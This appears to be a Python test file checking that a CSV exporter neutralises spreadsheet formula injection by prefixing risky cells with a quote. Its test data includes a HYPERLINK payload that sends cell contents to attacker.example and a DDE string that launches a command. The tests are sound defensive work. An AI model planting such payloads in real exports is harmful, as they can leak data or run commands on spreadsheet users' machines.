"""CSV exports neutralize spreadsheet formulas (OWASP "CSV Injection"): a text cell that starts with
= + - @, a tab or a carriage return is written with a leading ``'``, which spreadsheets show as text;
the importer reads it back exactly. Facility names come from register events, so this covers text
that arrived by import."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from raretrace.interchange.export import facility_records
from raretrace.interchange.tabular import open_sheet
from raretrace.interchange.writers import inert, plain, write_table
from raretrace.ledger.scripted import ScriptedChain
from tests.chain_fixtures import new_registry

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_a_hostile_facility_name_is_exported_inert(tmp_path: Path) -> None:
    chain = ScriptedChain(new_registry(f"sqlite:///{tmp_path / 'r.db'}"))
    for i, name in enumerate(HOSTILE):
        chain.add_facility(f"XX-{i}", name=name, country="US", stages=["mining"])
    out = tmp_path / "facilities.csv"
    columns = [("facility_id", "text"), ("facility_name", "text")]
    write_table(out, "csv", columns, facility_records(chain.registry))
    with out.open(encoding="utf-8", newline="") as handle:
        names = [row["facility_name"] for row in csv.DictReader(handle)]
    assert sorted(names) == sorted("'" + name for name in HOSTILE)
    for name in names:  # what a spreadsheet sees first is the quote, never a formula character
        assert name[0] == "'" and name[1] in "=+-@\t\r"
    with open_sheet(out, "csv") as sheet:
        read_back = sorted(str(row[1]) for _, row in sheet.rows)
    assert read_back == sorted(HOSTILE)


def test_numbers_stay_numbers(tmp_path: Path) -> None:
    out = tmp_path / "n.csv"
    write_table(out, "csv", [("x", "float"), ("t", "text")], [{"x": -1.5, "t": "-1.5"}])
    assert out.read_text().splitlines()[1] == "-1.5,'-1.5"


@given(st.text(max_size=20))
def test_inert_and_plain_are_exact_inverses(text: str) -> None:
    shown = inert(text)
    assert plain(shown) == text
    assert not shown or shown[0] not in "=+-@\t\r"
